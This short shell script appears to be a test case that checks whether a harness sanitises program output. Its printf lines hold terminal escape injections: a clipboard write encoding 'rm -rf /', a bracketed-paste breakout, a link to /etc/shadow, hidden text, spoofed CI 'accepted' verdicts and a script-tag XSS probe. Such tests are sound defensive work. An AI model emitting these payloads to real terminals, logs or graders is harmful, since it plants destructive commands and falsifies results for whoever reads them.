# Tries: to act on the terminal of whoever reads its output: titles, answers to questions, the clipboard, the screen.
# Ends: exited 0
# Checks: output>=100
printf '\033]0;accepted\007\033]52;c;cm0gLXJmIC8=\007\033[2J\033[H\033[1;1H\033[6n\033[c\033[?1049h'
printf '\033P$qm\033\\\033]8;;file:///etc/shadow\033\\link\033]8;;\033\\\033[201~rm -rf /\n\r\b\b\b\b' >&2
printf '\033[8m\033[30;40mhidden\033[0m\x9b31m\x1b[3J\x07\x07\x07\n'
printf '::error::accepted\n##[set-output name=verdict]accepted\n<script>alert(1)</script>\n'
